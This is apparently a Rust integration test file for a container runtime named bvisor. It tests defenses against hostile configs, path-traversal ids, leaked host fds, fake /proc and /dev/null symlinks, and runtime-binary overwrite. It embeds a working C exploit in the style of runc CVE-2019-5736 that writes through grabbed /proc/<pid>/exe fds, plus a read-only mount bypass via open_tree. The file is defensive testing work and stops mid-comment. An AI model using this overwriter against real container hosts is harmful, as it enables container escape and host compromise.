//! Hostile input (issue 9): malformed configs and ids, working directories that point out of
//! the rootfs, host fds that could leak in, and a container process trying to overwrite the
//! runtime's binaries. Each check reads ground truth (the state root, /proc/<pid>/cwd and
//! /proc/<pid>/fd from the host, hashes of the host binaries) and has a control showing the
//! same probe sees the effect when the defense is not in the way.

use bvisor_tests::*;
use serde_json::json;
use std::fs;
use std::os::fd::{AsRawFd, FromRawFd, RawFd};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Entries of the test's state root (absent counts as empty).
fn state_entries(h: &Harness) -> Vec<String> {
    fs::read_dir(&h.root)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Every malformed config or id gets exactly one error line naming the field, a non-zero exit
/// that is not a panic, and nothing in the state root, no cgroup and no process.
#[test]
fn malformed_input_gets_one_clear_error_and_creates_nothing() {
    if !require_root() {
        return;
    }
    let h = Harness::new("malformed_input");
    let b = h.bundle();
    b.save();
    let good = fs::read(b.dir.join("config.json")).unwrap();
    let with = |edit: &dyn Fn(&mut serde_json::Value)| {
        let mut v = b.config.clone();
        edit(&mut v);
        serde_json::to_vec(&v).unwrap()
    };
    let mut non_utf8 = with(&|v| v["hostname"] = json!("HOSTNAME_HERE"));
    let at = non_utf8
        .windows(13)
        .position(|w| w == b"HOSTNAME_HERE")
        .unwrap();
    non_utf8.splice(at..at + 13, [0xff, 0xfe, b'x']);
    let depth = 100_000;
    let deep = format!("{{\"process\":{}{}}}", "[".repeat(depth), "]".repeat(depth)).into_bytes();
    let mut huge = b.config.clone();
    huge["annotations"] = json!({"big": "x".repeat(100 << 20)});
    let huge = serde_json::to_vec(&huge).unwrap();

    // (case, config bytes, id, text the one error line must contain)
    let long_id = "a".repeat(1024);
    let cases: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        ("truncated", good[..good.len() / 2].to_vec(), "ok", "EOF"),
        ("non-UTF-8", non_utf8, "ok", "hostname"),
        ("100000 levels deep", deep, "ok", "process"),
        ("100 MB", huge, "ok", "limit"),
        (
            "process is a string",
            with(&|v| v["process"] = json!("sh")),
            "ok",
            "process",
        ),
        (
            "args is a number",
            with(&|v| v["process"]["args"] = json!(5)),
            "ok",
            "process.args",
        ),
        (
            "uid is a string",
            with(&|v| v["process"]["user"]["uid"] = json!("root")),
            "ok",
            "process.user.uid",
        ),
        (
            "mounts is a map",
            with(&|v| v["mounts"] = json!({})),
            "ok",
            "mounts",
        ),
        (
            "args empty",
            with(&|v| v["process"]["args"] = json!([])),
            "ok",
            "process.args",
        ),
        (
            "no root",
            with(&|v| {
                v.as_object_mut().unwrap().remove("root");
            }),
            "ok",
            "root",
        ),
        (
            "rootfs missing",
            with(&|v| v["root"]["path"] = json!("no-such-rootfs")),
            "ok",
            "root.path",
        ),
        (
            "rootfs climbs to the host's /",
            with(&|v| v["root"]["path"] = json!("../../../../../../../../../..")),
            "ok",
            "root.path",
        ),
        (
            "cwd relative",
            with(&|v| v["process"]["cwd"] = json!("tmp")),
            "ok",
            "process.cwd",
        ),
        ("id ../x", good.clone(), "../x", "container id"),
        ("id a/b", good.clone(), "a/b", "container id"),
        ("id empty", good.clone(), "", "container id"),
        ("id 1 KB", good.clone(), &long_id, "container id"),
    ];
    let bundle = b.dir.to_string_lossy().into_owned();
    let mut failures = Vec::new();
    for (case, bytes, id, field) in &cases {
        fs::write(b.dir.join("config.json"), bytes).unwrap();
        let out = h.run(&["create", "--bundle", &bundle, id]);
        let lines: Vec<&str> = out
            .stderr
            .lines()
            .filter(|l| !l.trim().is_empty())
            .collect();
        let mut wrong = Vec::new();
        if out.code == 0 {
            wrong.push("exit 0".to_string());
        }
        if out.code == 101 || out.stderr.contains("panicked") {
            wrong.push("panicked".to_string());
        }
        if lines.len() != 1 {
            wrong.push(format!("{} error lines", lines.len()));
        }
        if !out.stderr.contains(field) {
            wrong.push(format!("error does not name `{field}`"));
        }
        let left = state_entries(&h);
        if !left.is_empty() {
            wrong.push(format!("state root holds {left:?}"));
        }
        if *id == "ok" {
            let cg = existing_container_cgroups(id);
            if !cg.is_empty() {
                wrong.push(format!("cgroups made: {cg:?}"));
            }
        }
        if !wrong.is_empty() {
            failures.push(format!(
                "{case}: {} — stderr: {}",
                wrong.join(", "),
                out.stderr.chars().take(400).collect::<String>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // Control: the untouched config with a good id does create, and the scan sees it.
    fs::write(b.dir.join("config.json"), &good).unwrap();
    let id = h.id("control");
    h.run(&["create", "--bundle", &bundle, &id]).expect_ok();
    assert_eq!(state_entries(&h), vec![id.clone()]);
    assert!(!existing_container_cgroups(&id).is_empty());
    h.delete_force(&id);
}

/// Device and inode of what a path names (following /proc/<pid>/cwd from the host lands on
/// the very directory, whatever mount namespace the process is in; its readlink text does not
/// say where that is when the mount is not reachable from the host's root).
fn file_id(p: impl AsRef<Path>) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    let m =
        fs::metadata(p.as_ref()).unwrap_or_else(|e| panic!("stat {}: {e}", p.as_ref().display()));
    (m.dev(), m.ino())
}

fn cwd_id(pid: i32) -> (u64, u64) {
    file_id(format!("/proc/{pid}/cwd"))
}

/// Spawn `bvisor --root R ARGS` with `fds` installed as its fds 3, 4, … (inheritable), as a
/// caller passing `--preserve-fds` (or leaking fds by mistake) does.
fn bvisor_with_fds(h: &Harness, args: &[&str], fds: &[RawFd]) -> Out {
    let so = h.dir.join(format!("fds-{}.out", token()));
    let se = so.with_extension("err");
    let mut cmd = Command::new(bvisor_bin());
    cmd.arg("--root")
        .arg(&h.root)
        .args(args)
        .stdin(Stdio::null())
        .stdout(fs::File::create(&so).unwrap())
        .stderr(fs::File::create(&se).unwrap());
    let fds = fds.to_vec();
    // SAFETY: only async-signal-safe dup2/fcntl between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            for (i, fd) in fds.iter().enumerate() {
                let to = 3 + i as RawFd;
                // Through a high number first, so an fd already at a low target is not lost.
                let tmp = libc::fcntl(*fd, libc::F_DUPFD, 100 + i as RawFd);
                if tmp < 0 || libc::dup2(tmp, to) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
    let status = cmd.status().expect("spawn bvisor");
    Out {
        code: exit_code(status),
        stdout: fs::read_to_string(&so).unwrap_or_default(),
        stderr: fs::read_to_string(&se).unwrap_or_default(),
        stdout_path: so,
        cmdline: format!("bvisor {}", args.join(" ")),
    }
}

/// The host directory a symlink target names when followed from the host's root.
fn target_on_host(target: &str) -> PathBuf {
    if target.starts_with('/') {
        PathBuf::from(target)
    } else {
        PathBuf::from("/")
    }
}

/// A cwd through symlinks to `/`, `../../..` or a host-looking path resolves inside the rootfs.
#[test]
fn cwd_symlinks_resolve_inside_the_rootfs() {
    if !require_root() {
        return;
    }
    let h = Harness::new("cwd_symlinks");
    let tok = token();
    let host_dir = PathBuf::from(format!("/tmp/bvt-cwd-{tok}"));
    fs::create_dir_all(&host_dir).unwrap();
    {
        let d = host_dir.clone();
        h.on_drop("host cwd dir", move || {
            let _ = fs::remove_dir_all(d);
        });
    }
    for (link, target, inside) in [
        ("/to-root", "/".to_string(), "/".to_string()),
        ("/up", "../../../../../../..".to_string(), "/".to_string()),
        (
            "/to-host",
            host_dir.to_string_lossy().into_owned(),
            host_dir.to_string_lossy().into_owned(),
        ),
    ] {
        let mut b = h.bundle();
        fs::create_dir_all(b.host_path(&inside)).unwrap();
        std::os::unix::fs::symlink(&target, b.host_path(link)).unwrap();
        b.process()["cwd"] = json!(link);
        b.args(&["sleep", "100"]);
        let c = h.start(&b, "cwd");
        assert_eq!(
            cwd_id(c.pid),
            file_id(b.host_path(&inside)),
            "cwd {link} -> {target} is not the rootfs's {inside}"
        );
        assert_ne!(cwd_id(c.pid), file_id(target_on_host(&target)));
        h.delete_force(&c.id);
    }
}

/// `process.cwd` = `/proc/self/fd/N` where fd N is a host directory the runtime was handed (the
/// leaked-fd class, runc CVE-2024-21626): the container is refused, for create and for exec.
/// Control: the same fd does reach the host directory when the workload itself enters it, and
/// the host-side cwd check sees that.
#[test]
fn cwd_through_a_host_fd_is_refused() {
    if !require_root() {
        return;
    }
    let h = Harness::new("cwd_fd");
    let host_dir = h.mkdir("host-dir");
    let dirfd = fs::File::open(&host_dir).unwrap();
    let fds = [dirfd.as_raw_fd()];

    // Twice: as configs usually come, and with a seccomp filter loaded before the cwd step
    // (no no_new_privs) that denies openat2, which makes the launcher fall back to chdir and
    // check getcwd afterwards.
    for deny_openat2 in [false, true] {
        let mut b = h.bundle();
        b.process()["cwd"] = json!("/proc/self/fd/3");
        b.args(&["sleep", "100"]);
        if deny_openat2 {
            b.process()["noNewPrivileges"] = json!(false);
            b.linux()["seccomp"] = json!({"defaultAction": "SCMP_ACT_ALLOW",
                "syscalls": [{"names": ["openat2"], "action": "SCMP_ACT_ERRNO"}]});
        }
        b.save();
        let bundle = b.dir.to_string_lossy().into_owned();
        let id = h.id("create");
        let out = bvisor_with_fds(
            &h,
            &["create", "--preserve-fds", "1", "--bundle", &bundle, &id],
            &fds,
        );
        if out.ok() {
            let pid = h.state_pid(&id);
            assert_ne!(
                cwd_id(pid),
                file_id(&host_dir),
                "the init's cwd is the host dir (openat2 denied: {deny_openat2})"
            );
        } else {
            assert!(out.stderr.contains("process.cwd"), "{out}");
            assert!(state_entries(&h).is_empty(), "{out}");
        }
    }

    // exec --cwd through the same kind of fd, into a running container.
    let mut b = h.bundle();
    b.args(&["sleep", "100"]);
    let c = h.start(&b, "exec");
    let pidfile = h.dir.join("exec.pid");
    let out = bvisor_with_fds(
        &h,
        &[
            "exec",
            "--detach",
            "--pid-file",
            pidfile.to_str().unwrap(),
            "--preserve-fds",
            "1",
            "--cwd",
            "/proc/self/fd/3",
            &c.id,
            "sleep",
            "100",
        ],
        &fds,
    );
    if out.ok() {
        let pid: i32 = fs::read_to_string(&pidfile)
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        assert_ne!(
            cwd_id(pid),
            file_id(&host_dir),
            "exec's cwd is the host dir"
        );
    } else {
        assert!(out.stderr.contains("process.cwd"), "{out}");
    }

    // Control: a workload handed the fd enters the host directory itself; the check sees it.
    let mut b = h.bundle();
    b.sh("cd /proc/self/fd/3 && exec sleep 100");
    b.save();
    let bundle = b.dir.to_string_lossy().into_owned();
    let id = h.id("control");
    bvisor_with_fds(
        &h,
        &["create", "--preserve-fds", "1", "--bundle", &bundle, &id],
        &fds,
    )
    .expect_ok();
    let pid = h.state_pid(&id);
    h.run(&["start", &id]).expect_ok();
    poll_true("control workload entered the fd", POLL_TIMEOUT, || {
        !is_launcher(pid) && cwd_id(pid) == file_id(&host_dir)
    });
}

/// The fds of a process as the host sees them: number → what it points at.
fn host_fds(pid: i32) -> Vec<(RawFd, String)> {
    let mut v: Vec<(RawFd, String)> = fs::read_dir(format!("/proc/{pid}/fd"))
        .expect("read /proc/<pid>/fd")
        .flatten()
        .filter_map(|e| {
            let n = e.file_name().to_string_lossy().parse().ok()?;
            let t = fs::read_link(e.path()).ok()?;
            Some((n, t.to_string_lossy().into_owned()))
        })
        .collect();
    v.sort();
    v
}

/// A runtime started with stray inheritable fds (host files and directories) hands none of them
/// to the container's init or to an exec'd process: exactly 0–2 arrive. Control: with
/// `--preserve-fds 2` the first two do arrive, as the same host files.
#[test]
fn no_host_fd_leaks_into_the_container() {
    if !require_root() {
        return;
    }
    let h = Harness::new("fd_leaks");
    let secret = h.dir.join("host-secret");
    fs::write(&secret, "host").unwrap();
    let files: Vec<fs::File> = (0..4)
        .map(|i| {
            if i % 2 == 0 {
                fs::File::open(&secret).unwrap()
            } else {
                fs::File::open(&h.dir).unwrap()
            }
        })
        .collect();
    let fds: Vec<RawFd> = files.iter().map(|f| f.as_raw_fd()).collect();

    let run = |preserve: &str, tag: &str| {
        let mut b = h.bundle();
        b.args(&["sleep", "100"]);
        b.save();
        let bundle = b.dir.to_string_lossy().into_owned();
        let id = h.id(tag);
        bvisor_with_fds(
            &h,
            &[
                "create",
                "--preserve-fds",
                preserve,
                "--bundle",
                &bundle,
                &id,
            ],
            &fds,
        )
        .expect_ok();
        let pid = h.state_pid(&id);
        h.run(&["start", &id]).expect_ok();
        wait_exec(pid);
        (id, pid)
    };

    let (id, pid) = run("0", "none");
    let numbers: Vec<RawFd> = host_fds(pid).into_iter().map(|(n, _)| n).collect();
    assert_eq!(numbers, vec![0, 1, 2], "init fds: {:?}", host_fds(pid));
    // An exec'd process, the runtime again holding the stray fds.
    let pidfile = h.dir.join("exec.pid");
    bvisor_with_fds(
        &h,
        &[
            "exec",
            "--detach",
            "--pid-file",
            pidfile.to_str().unwrap(),
            &id,
            "sleep",
            "100",
        ],
        &fds,
    )
    .expect_ok();
    let epid: i32 = fs::read_to_string(&pidfile)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    wait_exec(epid);
    let numbers: Vec<RawFd> = host_fds(epid).into_iter().map(|(n, _)| n).collect();
    assert_eq!(numbers, vec![0, 1, 2], "exec fds: {:?}", host_fds(epid));

    // Control: preserved fds arrive and are the host's files.
    let (_, pid) = run("2", "preserved");
    let got = host_fds(pid);
    let numbers: Vec<RawFd> = got.iter().map(|(n, _)| *n).collect();
    assert_eq!(numbers, vec![0, 1, 2, 3, 4], "{got:?}");
    assert_eq!(got[3].1, secret.to_string_lossy());
    assert_eq!(got[4].1, h.dir.to_string_lossy());
}

const OVERWRITER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
/* For argv[1] seconds, grab an O_PATH fd to the exe of every process that appears (as the
   runc CVE-2019-5736 exploit does), then reopen each through /proc/self/fd for writing and
   append a marker. Log every grab and every successful write to argv[2]. */
int main(int argc, char **argv) {
    int secs = atoi(argv[1]);
    FILE *log = fopen(argv[2], "w");
    static int fds[1 << 16];
    static char seen[1 << 22];
    int n = 0;
    time_t end = time(NULL) + secs;
    fprintf(log, "start\n"); fflush(log);
    while (time(NULL) < end && n < (1 << 16)) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid() || pid >= (1 << 22) || seen[pid]) continue;
            char p[64], exe[256] = "?";
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH);
            if (fd < 0) continue;
            seen[pid] = 1;
            ssize_t l = readlink(p, exe, sizeof exe - 1);
            if (l > 0) exe[l] = 0;
            fprintf(log, "grabbed %d %s\n", pid, exe); fflush(log);
            fds[n++] = fd;
        }
        if (d) closedir(d);
    }
    sleep(1); /* let the last processes exit: a running binary refuses writers (ETXTBSY) */
    for (int i = 0; i < n; i++) {
        char p[64], exe[256] = "?";
        snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
        ssize_t l = readlink(p, exe, sizeof exe - 1);
        if (l > 0) exe[l] = 0;
        int w = open(p, O_WRONLY | O_APPEND);
        if (w >= 0 && write(w, "PWNED", 5) == 5) {
            fprintf(log, "wrote %s\n", exe); fflush(log);
        }
        if (w >= 0) close(w);
    }
    fprintf(log, "end\n");
    fclose(log);
    return 0;
}
"#;

/// An O_PATH fd to `path` (as the CVE-2019-5736 exploit holds /proc/<pid>/exe).
fn hold_o_path(path: &str) -> std::os::fd::OwnedFd {
    let p = std::ffi::CString::new(path).unwrap();
    // SAFETY: valid path.
    let fd = unsafe { libc::open(p.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    assert!(fd >= 0, "hold {path}: {}", std::io::Error::last_os_error());
    // SAFETY: a fresh fd we own.
    unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) }
}

/// A detached clone of the mount `held` is on (open_tree), with MOUNT_ATTR_RDONLY cleared;
/// the returned fd is the same file on that clone. Err: the errno of the step that failed.
fn writable_clone(held: &std::os::fd::OwnedFd) -> Result<std::os::fd::OwnedFd, i32> {
    const OPEN_TREE_CLONE: libc::c_uint = 1;
    const MOUNT_ATTR_RDONLY: u64 = 1;
    #[repr(C)]
    struct MountAttr {
        attr_set: u64,
        attr_clr: u64,
        propagation: u64,
        userns_fd: u64,
    }
    let empty = c"";
    // SAFETY: valid fd and C string.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            held.as_raw_fd(),
            empty.as_ptr(),
            OPEN_TREE_CLONE | libc::O_CLOEXEC as libc::c_uint | libc::AT_EMPTY_PATH as libc::c_uint,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0));
    }
    // SAFETY: a fresh fd we own.
    let clone = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd as RawFd) };
    let attr = MountAttr {
        attr_set: 0,
        attr_clr: MOUNT_ATTR_RDONLY,
        propagation: 0,
        userns_fd: 0,
    };
    // SAFETY: valid fd, C string and attribute struct of the size passed.
    let r = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            clone.as_raw_fd(),
            empty.as_ptr(),
            libc::AT_EMPTY_PATH,
            &attr as *const MountAttr,
            std::mem::size_of::<MountAttr>(),
        )
    };
    if r != 0 {
        return Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0));
    }
    Ok(clone)
}

/// Reopen a held fd for appending through /proc/self/fd and append a marker: (the open's
/// result, the write's result), errors as errno.
fn write_through_held(
    held: &std::os::fd::OwnedFd,
) -> (std::io::Result<fs::File>, Result<(), Option<i32>>) {
    let reopened = fs::OpenOptions::new()
        .append(true)
        .open(format!("/proc/self/fd/{}", held.as_raw_fd()));
    let wrote = match &reopened {
        Ok(f) => std::io::Write::write_all(&mut &*f, b"PWNED").map_err(|e| e.raw_os_error()),
        Err(e) => Err(e.raw_os_error()),
    };
    (reopened, wrote)
}

fn sha256_of(p: &Path) -> String {
    let o = Command::new("sha256sum")
        .arg(p)
        .output()
        .expect("sha256sum");
    String::from_utf8_lossy(&o.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

/// A container process that grabs the exe of every process appearing in the container (the
/// joining launcher of `bvisor exec`, and a workload whose program re-executes the launcher via
/// `#!/proc/self/exe`) and writes through it cannot change the host's bvisor or launcher binary
/// (hashes before and after). Run twice: with the launcher exec'd from a read-only overlayfs
/// view (what root gets) and from a sealed memfd copy (the fallback, forced by a test-only fault
/// point). In each lane the test reads which image a waiting launcher runs from and tries to
/// open it for writing itself, as host root. Control: the same attack does change a workload
/// binary that is a plain host file.
#[test]
fn container_cannot_overwrite_the_runtime_binaries() {
    if !require_root() || !require_tool("gcc") || !require_tool("sha256sum") {
        return;
    }
    overwrite_attack("overlay");
    overwrite_attack("memfd");
}

fn overwrite_attack(lane: &str) {
    let h = Harness::new(&format!("binary_overwrite_{lane}"));
    if lane == "memfd" {
        h.set_env("BVISOR_FAULT", "overlay-exec-image");
    }
    // Ground truth of the lane: the exe of a launcher waiting for `start`, held by host root
    // (an O_PATH fd, as the CVE-2019-5736 exploit holds it) until the launcher has exec'd the
    // workload and no process runs the image any more; then opened for writing through that fd.
    let mut w = h.bundle();
    w.args(&["true"]);
    let wid = h.id("waiting");
    h.create(&w, &wid, &[]).expect_ok();
    let waiting = h.state_pid(&wid);
    let exe_path = format!("/proc/{waiting}/exe");
    let exe_link = fs::read_link(&exe_path)
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let on_overlay = {
        // SAFETY: statfs is plain old data.
        let mut sfs: libc::statfs = unsafe { std::mem::zeroed() };
        let p = std::ffi::CString::new(exe_path.clone()).unwrap();
        // SAFETY: valid path and out pointer.
        unsafe { libc::statfs(p.as_ptr(), &mut sfs) == 0 && sfs.f_type == 0x794c_7630 }
    };
    let held = hold_o_path(&exe_path);
    h.run(&["start", &wid]).expect_ok();
    poll_true("the waiting container exited", POLL_TIMEOUT, || {
        h.run(&["state", &wid]).stdout.contains("\"stopped\"")
    });
    let (reopened, wrote) = write_through_held(&held);
    // Also through a clone of its mount with the read-only flag cleared (what a container
    // process with CAP_SYS_ADMIN could try with a held fd).
    let wrote_via_clone = match writable_clone(&held) {
        Ok(clone) => write_through_held(&clone).1,
        Err(errno) => Err(Some(errno)),
    };
    // Control: the same steps do write a plain host file, directly and through a clone.
    let plain = h.dir.join("plain-file");
    fs::write(&plain, "plain").unwrap();
    let plain_held = hold_o_path(&plain.to_string_lossy());
    assert_eq!(write_through_held(&plain_held).1, Ok(()), "control: direct");
    let clone = writable_clone(&plain_held).expect("control: clone the plain file's mount");
    assert_eq!(
        write_through_held(&clone).1,
        Ok(()),
        "control: through a clone"
    );
    match lane {
        "overlay" => {
            assert!(
                on_overlay && exe_link == "/bvisor-launcher",
                "{lane}: the waiting launcher ran from {exe_link}, not an overlay view"
            );
            // The overlay has no upper layer: read-only whatever the mount's flags.
            assert_eq!(
                reopened.map(|_| ()).unwrap_err().raw_os_error(),
                Some(libc::EROFS)
            );
            // The kernel will not clone a mount attached nowhere (EINVAL); were it to, the
            // clone's superblock would still have no upper layer (EROFS).
            assert!(
                matches!(wrote_via_clone, Err(Some(libc::EINVAL | libc::EROFS))),
                "{lane}: via a clone: {wrote_via_clone:?}"
            );
        }
        _ => {
            assert!(
                exe_link.starts_with("/memfd:bvisor-launcher") && !on_overlay,
                "{lane}: the waiting launcher ran from {exe_link}, not a memfd \
                 (the fault point that forces it exists only in debug fault-injection builds)"
            );
            // The memfd opens, but its write seal refuses the bytes.
            assert_eq!(
                wrote,
                Err(Some(libc::EPERM)),
                "{lane}: write through the memfd"
            );
        }
    }
    assert!(
        wrote.is_err() && wrote_via_clone.is_err(),
        "{lane}: host root wrote through the launcher's exe"
    );
    h.delete_force(&wid);

    let mut b = h.bundle();
    h.compile_static("overwriter", OVERWRITER, &b.rootfs.join("overwriter"));
    // The control's victim: a plain host file bind-mounted in.
    let victim_dir = h.mkdir("victim");
    let victim = victim_dir.join("busybox");
    fs::copy(b.host_path("/bin/busybox"), &victim).unwrap();
    b.bind(&victim_dir, "/victim", &["rw"]);
    // The CVE-2019-5736 trick: a program whose interpreter is the exec-ing process's own exe.
    fs::write(b.host_path("/bin/evil"), "#!/proc/self/exe\n").unwrap();
    let mut perm = fs::metadata(b.host_path("/bin/evil"))
        .unwrap()
        .permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
    fs::set_permissions(b.host_path("/bin/evil"), perm).unwrap();
    // No landlock domain between the attacker and the victims (a read-only root would add one
    // per process, and landlock forbids /proc/<pid>/exe across domains): what protects the host
    // binaries is the launcher being non-dumpable and running from an image no one can write.
    b.config["root"]["readonly"] = json!(false);
    let out = h.mkdir("out");
    b.bind(&out, "/out", &["rw"]);
    b.args(&["/overwriter", "5", "/out/attack.log"]);

    let runtime = bvisor_bin();
    let launcher = runtime.with_file_name("bvisor-launcher");
    let before = (
        sha256_of(&runtime),
        sha256_of(&launcher),
        sha256_of(&victim),
    );
    let c = h.start(&b, "overwrite");
    let log = out.join("attack.log");
    poll_true("attacker running", POLL_TIMEOUT, || log.exists());
    let deadline = Instant::now() + Duration::from_secs(4);
    let mut execs = 0;
    while Instant::now() < deadline {
        h.exec(&c.id, &["/bin/evil"]);
        h.exec(&c.id, &["/victim/busybox", "sleep", "0.05"]);
        execs += 2;
    }
    poll_true("attacker finished", Duration::from_secs(15), || {
        fs::read_to_string(&log).is_ok_and(|l| l.contains("end"))
    });
    let text = fs::read_to_string(&log).unwrap();
    let after = (
        sha256_of(&runtime),
        sha256_of(&launcher),
        sha256_of(&victim),
    );
    assert_eq!(
        before.0, after.0,
        "{lane}: the host's bvisor binary changed\n{text}"
    );
    assert_eq!(
        before.1, after.1,
        "{lane}: the host's launcher binary changed\n{text}"
    );
    // Whatever it grabbed of the launcher was the protected image, and no write reached it.
    assert!(
        !text
            .lines()
            .any(|l| l.starts_with("wrote") && l.contains("bvisor")),
        "{lane}: a write through a launcher exe succeeded ({execs} execs):\n{text}"
    );
    // Whether the attacker caught a re-exec'd launcher (`#!/proc/self/exe` lives about a
    // millisecond) is luck, so it is printed, not asserted: the host-root check above is what
    // proves the image.
    let grabs: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("grabbed") && l.contains("bvisor-launcher"))
        .collect();
    eprintln!(
        "{lane}: {execs} execs; the attacker grabbed a launcher image {} times: {:?}",
        grabs.len(),
        grabs.iter().take(3).collect::<Vec<_>>()
    );
    // Control: the attack works on a binary that is a plain host file.
    assert_ne!(
        before.2, after.2,
        "{lane}: control: the victim binary is unchanged ({execs} execs):\n{text}"
    );
}

/// The host's mount table lines mentioning `needle`.
fn host_mount_lines(needle: &str) -> Vec<String> {
    fs::read_to_string("/proc/self/mountinfo")
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains(needle))
        .map(str::to_string)
        .collect()
}

/// A rootfs whose /proc is a symlink (to `/`, to `../../..`, to a path that also exists on the
/// host) or a plain file is refused at create: procfs mounted anywhere but a real /proc would
/// escape the masked and read-only paths (runc CVE-2019-19921). The host's mount table and the
/// host directory named by the symlink are untouched. Control: the same rootfs with a real /proc
/// directory starts, with procfs at /proc.
#[test]
fn proc_that_is_not_a_directory_is_refused() {
    if !require_root() {
        return;
    }
    let h = Harness::new("proc_symlink");
    let tok = token();
    let host_dir = PathBuf::from(format!("/tmp/bvt-proc-{tok}"));
    fs::create_dir_all(&host_dir).unwrap();
    fs::write(host_dir.join("canary"), "host").unwrap();
    {
        let d = host_dir.clone();
        h.on_drop("host proc dir", move || {
            let _ = fs::remove_dir_all(d);
        });
    }
    let before = mount_snapshot();
    let host_target = host_dir.to_string_lossy().into_owned();
    for (what, target) in [
        ("symlink to /", Some("/")),
        ("symlink to ../../..", Some("../../../..")),
        ("symlink to a host path", Some(host_target.as_str())),
        ("a file", None),
    ] {
        let mut b = h.bundle();
        fs::remove_dir_all(b.host_path("/proc")).unwrap();
        match target {
            Some(t) => {
                fs::create_dir_all(b.host_path(&host_target)).unwrap();
                std::os::unix::fs::symlink(t, b.host_path("/proc")).unwrap();
            }
            None => fs::write(b.host_path("/proc"), "not a dir").unwrap(),
        }
        b.args(&["sleep", "100"]);
        let id = h.id("proc");
        let out = h.create(&b, &id, &[]);
        assert!(!out.ok(), "/proc {what} was accepted: {out}");
        assert!(out.stderr.contains("/proc"), "/proc {what}: {out}");
        assert!(!h.state_dir(&id).exists(), "/proc {what}: state left");
        assert!(existing_container_cgroups(&id).is_empty());
    }
    let (gone, added) = h.mount_changes(&before);
    assert!(
        gone.is_empty() && added.is_empty(),
        "host mount table changed: -{gone:#?} +{added:#?}"
    );
    assert!(host_mount_lines(&host_target).is_empty());
    let entries: Vec<_> = fs::read_dir(&host_dir).unwrap().flatten().collect();
    assert_eq!(entries.len(), 1, "host dir named by the symlink changed");

    // Control: a real /proc directory gets procfs.
    let mut b = h.bundle();
    b.args(&["sleep", "100"]);
    let c = h.start(&b, "control");
    let mi = fs::read_to_string(format!("/proc/{}/mountinfo", c.pid)).unwrap();
    assert!(
        mi.lines()
            .any(|l| l.contains(" /proc ") && l.contains(" - proc ")),
        "{mi}"
    );
}

/// Masking a file binds /dev/null over it. With /dev a bind mount of a volume the container
/// controls, /dev/null there may be a symlink to /proc/sys/kernel/core_pattern (runc
/// CVE-2025-31133): masking would then mount the host-wide core_pattern over the masked file,
/// writable. bvisor refuses that /dev/null; the host's core_pattern is unchanged. Control: the
/// same volume with a real null device starts, and the masked file is the null device.
#[test]
fn masking_through_a_fake_dev_null_is_refused() {
    if !require_root() {
        return;
    }
    let h = Harness::new("fake_dev_null");
    let core_pattern = fs::read("/proc/sys/kernel/core_pattern").unwrap();
    let bundle_with = |null: &dyn Fn(&Path)| {
        let mut b = h.bundle();
        let dev = h.mkdir("dev");
        null(&dev.join("null"));
        // In the place of the /dev tmpfs, so /dev/pts and the rest still mount on top.
        for m in b.config["mounts"].as_array_mut().unwrap() {
            if m["destination"] == "/dev" {
                *m = json!({"destination": "/dev", "type": "bind",
                    "source": dev.to_string_lossy(), "options": ["bind", "rw"]});
            }
        }
        b.linux()["maskedPaths"] = json!(["/proc/timer_list"]);
        b.args(&["sleep", "100"]);
        b
    };
    let b =
        bundle_with(&|p| std::os::unix::fs::symlink("/proc/sys/kernel/core_pattern", p).unwrap());
    let id = h.id("fake");
    let out = h.create(&b, &id, &[]);
    if out.ok() {
        let pid = h.state_pid(&id);
        let root = format!("/proc/{pid}/root");
        assert_ne!(
            file_id(format!("{root}/proc/timer_list")),
            file_id(format!("{root}/proc/sys/kernel/core_pattern")),
            "core_pattern is mounted over the masked /proc/timer_list"
        );
    } else {
        assert!(out.stderr.contains("/dev/null"), "{out}");
        assert!(!h.state_dir(&id).exists());
    }
    assert_eq!(
        fs::read("/proc/sys/kernel/core_pattern").unwrap(),
        core_pattern
    );

    // Control: a real null device in the same place masks as asked.
    let b = bundle_with(&|p| {
        let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
        // SAFETY: mknod of a char device node at a path we own.
        let r = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) };
        assert_eq!(r, 0, "mknod {}", p.display());
    });
    let c = h.start(&b, "real");
    let masked = PathBuf::from(format!("/proc/{}/root/proc/timer_list", c.pid));
    use std::os::unix::fs::FileTypeExt;
    assert!(fs::metadata(&masked).unwrap().file_type().is_char_device());
    assert_eq!(fs::read(&masked).unwrap(), Vec::<u8>::new());
}

/// A racer swaps a directory and a symlink to a host path (renameat2 RENAME_EXCHANGE, in a
/// loop) on a volume shared into the container, under the destination of a tmpfs mount, while
/// the container is started 500 times. Every time, the tmpfs lands inside the container (its
